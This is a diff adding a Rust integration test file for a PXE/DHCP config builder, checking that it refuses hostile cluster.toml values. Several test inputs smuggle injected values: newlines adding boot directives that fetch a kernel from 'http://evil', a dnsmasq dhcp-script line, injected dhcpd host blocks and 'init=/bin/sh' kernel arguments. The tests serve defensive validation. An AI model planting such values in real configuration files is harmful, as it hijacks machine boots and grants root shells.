@@ -1,0 +1,363 @@
+//! A hostile or careless cluster.toml (issue 10, D8): each reproducer is refused by
+//! `pxe-builder check` and `build` with file:line:column at the offending character, and
+//! nothing is written to `--out`. Plus: `--out` naming an existing file is refused, the
+//! file untouched; the widest names the rules accept pass the real DHCP servers' checks.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+fn bin() -> Command {
+    Command::new(env!("CARGO_BIN_EXE_pxe-builder"))
+}
+
+fn example() -> String {
+    std::fs::read_to_string(concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/examples/cluster.toml"
+    ))
+    .unwrap()
+}
+
+fn write_cluster(dir: &Path, body: &str) -> PathBuf {
+    for f in ["vmlinuz", "initrd.img", "vsmp-loader"] {
+        std::fs::write(dir.join(f), f).unwrap();
+    }
+    let p = dir.join("cluster.toml");
+    std::fs::write(&p, body).unwrap();
+    p
+}
+
+/// Every file under `dir` with its bytes (empty when `dir` does not exist).
+fn snapshot(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
+    let mut out = vec![];
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        let Ok(rd) = std::fs::read_dir(&d) else {
+            continue;
+        };
+        for e in rd.flatten() {
+            let p = e.path();
+            if p.is_dir() {
+                stack.push(p);
+            } else {
+                out.push((
+                    p.strip_prefix(dir).unwrap().to_path_buf(),
+                    std::fs::read(&p).unwrap(),
+                ));
+            }
+        }
+    }
+    out.sort();
+    out
+}
+
+/// 1-based line and column (in characters) of byte `at` of `text`.
+fn line_col(text: &str, at: usize) -> (usize, usize) {
+    let before = &text[..at];
+    let line = before.matches('\n').count() + 1;
+    let col = before.rsplit('\n').next().unwrap().chars().count() + 1;
+    (line, col)
+}
+
+fn run(args: &[&str], cluster: &Path, out: Option<&Path>) -> Output {
+    let mut cmd = bin();
+    cmd.args(args).arg(cluster);
+    if let Some(o) = out {
+        cmd.arg("--out").arg(o);
+    }
+    cmd.output().unwrap()
+}
+
+/// Replaces `from` (once) in the example with `to`; `check` and `build` must both fail
+/// with a diagnostic at the start of `mark` (a piece of `to`, as spelled in the file)
+/// whose message contains `frag`, and must write nothing.
+fn refused(from: &str, to: &str, mark: &str, frag: &str) {
+    let text = example();
+    assert_eq!(text.matches(from).count(), 1, "`{from}` must be unique");
+    let body = text.replacen(from, to, 1);
+    let at = body.find(to).unwrap() + to.find(mark).expect("mark inside `to`");
+    let (line, col) = line_col(&body, at);
+    let needle = format!("cluster.toml:{line}:{col}: ");
+
+    let work = tempfile::tempdir().unwrap();
+    let c = write_cluster(work.path(), &body);
+    let old = work.path().join("tree");
+    std::fs::create_dir_all(old.join("etc/bootopts")).unwrap();
+    std::fs::write(old.join("etc/bootopts/AC14000"), "server=http://old\n").unwrap();
+    let before = snapshot(&old);
+    let fresh = work.path().join("fresh");
+
+    for (args, out) in [
+        (vec!["check"], None),
+        (vec!["build", "--cluster"], Some(old.as_path())),
+        (vec!["build", "--cluster"], Some(fresh.as_path())),
+    ] {
+        let o = run(&args, &c, out);
+        let err = String::from_utf8_lossy(&o.stderr);
+        assert_eq!(
+            o.status.code(),
+            Some(2),
+            "{args:?} accepted {to:?}\nstdout: {}\nstderr: {err}",
+            String::from_utf8_lossy(&o.stdout)
+        );
+        assert!(
+            err.lines().any(|l| l.contains(&needle) && l.contains(frag)),
+            "{args:?}: expected `{needle}` … `{frag}` for {to:?} in:\n{err}"
+        );
+        // The hostile value reaches the terminal escaped, never raw.
+        assert!(
+            !err.chars().any(|c| c.is_control() && c != '\n'),
+            "control character on stderr: {err:?}"
+        );
+        assert!(
+            err.lines().count() < 40,
+            "a newline in the value split the messages:\n{err}"
+        );
+    }
+    assert_eq!(before, snapshot(&old), "a refused build touched --out");
+    assert!(!fresh.exists(), "a refused build created --out");
+    assert!(!std::fs::read_dir(work.path())
+        .unwrap()
+        .flatten()
+        .any(|e| e.file_name().to_string_lossy().contains("building")));
+}
+
+#[test]
+fn newline_in_an_entity_name_would_become_boot_directives() {
+    refused(
+        r#"name = "rack1""#,
+        r#"name = "rack1\nLABEL evil\n  KERNEL http://evil/vmlinuz""#,
+        r"\nLABEL",
+        "entity name",
+    );
+}
+
+#[test]
+fn newline_in_an_image_name_would_add_a_second_server_to_bootopts() {
+    refused(
+        r#"image = "compute"          #"#,
+        r#"image = "compute\nserver=http://evil:8080"          #"#,
+        r"\nserver",
+        "image name",
+    );
+}
+
+#[test]
+fn newline_in_a_node_name_would_add_a_dnsmasq_dhcp_script() {
+    refused(
+        r#"name = "n02""#,
+        r#"name = "n02\ndhcp-script=/tmp/pwn""#,
+        r"\ndhcp-script",
+        "node name",
+    );
+}
+
+#[test]
+fn quote_and_brace_in_a_node_name_would_inject_a_dhcpd_host() {
+    refused(
+        r#"name = "n02""#,
+        r#"name = "n02 { } host evil { hardware ethernet 00:00:00:00:00:01; fixed-address 172.20.0.9; } host x""#,
+        " { }",
+        "node name",
+    );
+    refused(
+        r#"name = "n02""#,
+        r#"name = "n02\"; }""#,
+        r#"\"; }"#,
+        "node name",
+    );
+}
+
+#[test]
+fn spaces_in_image_server_would_add_kernel_arguments() {
+    refused(
+        r#"image_server = "http://172.20.0.100:8080""#,
+        r#"image_server = "http://172.20.0.100:8080 init=/bin/sh""#,
+        " init",
+        "image_server",
+    );
+    refused(
+        r#"image_server = "http://172.20.0.100:8080""#,
+        r#"image_server = "http://172.20.0.100:8080/\nentity=evil""#,
+        r"\nentity",
+        "control character",
+    );
+}
+
+#[test]
+fn slash_or_comma_in_names_would_break_status_posts_and_bootopts() {
+    refused(
+        r#"name = "n02""#,
+        r#"name = "rack1/n02""#,
+        "/n02",
+        "status URLs",
+    );
+    refused(r#"name = "n02""#, r#"name = "n02,x""#, ",x", "bootopts");
+    refused(
+        r#"name = "debug""#,
+        r#"name = "de,bug""#,
+        ",bug",
+        "group name",
+    );
+}
+
+#[test]
+fn a_node_named_primary_collides_with_the_plans_image_server() {
+    refused(
+        r#"name = "n02""#,
+        r#"name = "primary""#,
+        "primary",
+        "reserved",
+    );
+}
+
+#[test]
+fn kernel_arguments_are_plain_words_and_not_our_keys() {
+    refused(
+        r#"kernel_args = "console=ttyS0""#,
+        r#"kernel_args = "console=ttyS0 x=\"a b\"""#,
+        r#"x=\""#,
+        "kernel_args",
+    );
+    refused(
+        r#"kernel_args = "console=ttyS0""#,
+        r#"kernel_args = "console=ttyS0\nLABEL x""#,
+        "console",
+        "kernel_args",
+    );
+    refused(
+        "\nargs = \"\"\n",
+        "\nargs = \"quiet netboot.server=http://evil\"\n",
+        "netboot.server",
+        "set by pxe-builder",
+    );
+}
+
+#[test]
+fn build_refuses_an_out_that_is_a_file_and_leaves_it_alone() {
+    let work = tempfile::tempdir().unwrap();
+    let c = write_cluster(work.path(), &example());
+    let file = work.path().join("notes.txt");
+    std::fs::write(&file, "the admin's notes\n").unwrap();
+    let o = run(&["build", "--cluster"], &c, Some(&file));
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert_eq!(o.status.code(), Some(2), "{err}");
+    assert!(
+        err.contains("notes.txt") && err.contains("not a directory"),
+        "{err}"
+    );
+    assert_eq!(std::fs::read(&file).unwrap(), b"the admin's notes\n");
+    let names: Vec<String> = std::fs::read_dir(work.path())
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().to_string())
+        .collect();
+    assert!(
+        !names.iter().any(|n| n.contains("building")),
+        "staging left behind: {names:?}"
+    );
+    // A symbolic link to a directory is refused too (the swap would replace the link).
+    let dir = work.path().join("real");
+    std::fs::create_dir(&dir).unwrap();
+    std::fs::write(dir.join("keep"), "x").unwrap();
+    let link = work.path().join("link");
+    std::os::unix::fs::symlink(&dir, &link).unwrap();
+    let o = run(&["build", "--cluster"], &c, Some(&link));
+    assert_eq!(o.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&o.stderr).contains("symbolic link"));
+    assert!(std::fs::symlink_metadata(&link)
+        .unwrap()
+        .file_type()
+        .is_symlink());
+    assert_eq!(std::fs::read(dir.join("keep")).unwrap(), b"x");
+}
+
+/// Runs `prog args…`; None (with the reason printed) when the program is absent.
+fn real_check(prog: &str, args: &[String]) -> Option<Output> {
+    match Command::new(prog).args(args).output() {
+        Ok(o) => Some(o),
+        Err(e) => {
+            eprintln!("skipped: {prog} not runnable ({e}); scripts/setup.sh installs dnsmasq-base and isc-dhcp-server");
+            None
+        }
+    }
+}
+
+#[test]
+fn the_widest_accepted_names_pass_dnsmasq_and_dhcpd() {
+    let long = format!("n{}", "x".repeat(62));
+    let body = example()
+        .replace(r#""n01""#, r#""N.0_1-a""#)
+        .replace(r#""n02""#, &format!("\"{long}\""))
+        .replace(r#""rack2""#, r#""Rack_2.b-c""#);
+    let work = tempfile::tempdir().unwrap();
+    let c = write_cluster(work.path(), &body);
+    let out = work.path().join("tree");
+    let o = run(&["build", "--cluster"], &c, Some(&out));
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    let dnsmasq = out.join("dhcp/dnsmasq.conf");
+    assert!(std::fs::read_to_string(&dnsmasq)
+        .unwrap()
+        .contains(&format!(",{long}\n")));
+    let conf = format!("--conf-file={}", dnsmasq.display());
+    if let Some(o) = real_check("dnsmasq", &["--test".into(), conf]) {
+        assert!(
+            o.status.success(),
+            "dnsmasq --test: {}",
+            String::from_utf8_lossy(&o.stderr)
+        );
+    }
+    let dhcpd = out.join("dhcp/dhcpd.conf").display().to_string();
+    if let Some(o) = real_check("dhcpd", &["-t".into(), "-4".into(), "-cf".into(), dhcpd]) {
+        assert!(
+            o.status.success(),
+            "dhcpd -t: {}",
+            String::from_utf8_lossy(&o.stderr)
+        );
+    }
+}
+
+#[test]
+fn check_refuses_a_command_line_the_kernel_would_cut() {
+    // 30 vSMP boards with 60-character names: each board's entry lists every board
+    // (vsmp.boards=…), 1 830 bytes before our netboot.* keys; the kernel keeps 2 047.
+    let mut body = example();
+    let names: Vec<String> = (0..30)
+        .map(|i| format!("b{i:02}{}", "x".repeat(57)))
+        .collect();
+    body = body.replace(
+        "active = [\"n03\", \"n04\"]",
+        &format!(
+            "active = [{}]",
+            names
+                .iter()
+                .map(|n| format!("\"{n}\""))
+                .collect::<Vec<_>>()
+                .join(", ")
+        ),
+    );
+    body = body.replace(
+        "groups = [\"compute\", \"vSMP_big\"]\nactive_group = \"vSMP_big\"",
+        "groups = [\"compute\"]",
+    );
+    body = body.replace("groups = [\"vSMP_big\"]", "groups = [\"compute\"]");
+    for (i, n) in names.iter().enumerate() {
+        body.push_str(&format!(
+            "\n[[node]]\nname = \"{n}\"\nmac = \"52:54:00:00:01:{i:02x}\"\nip = \"172.20.1.{}\"\nentity = \"rack2\"\ngroups = [\"vSMP_big\"]\n",
+            i + 10
+        ));
+    }
+    let work = tempfile::tempdir().unwrap();
+    let c = write_cluster(work.path(), &body);
+    let o = run(&["check"], &c, None);
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert_eq!(o.status.code(), Some(2), "{err}");
+    assert!(
+        err.contains("pxelinux.cfg/01-52-54-00-00-01-00") && err.contains("1792"),
+        "{err}"
+    );
+    let out = work.path().join("tree");
+    let o = run(&["build", "--cluster"], &c, Some(&out));
+    assert_eq!(o.status.code(), Some(2));
+    assert!(!out.exists());
+}
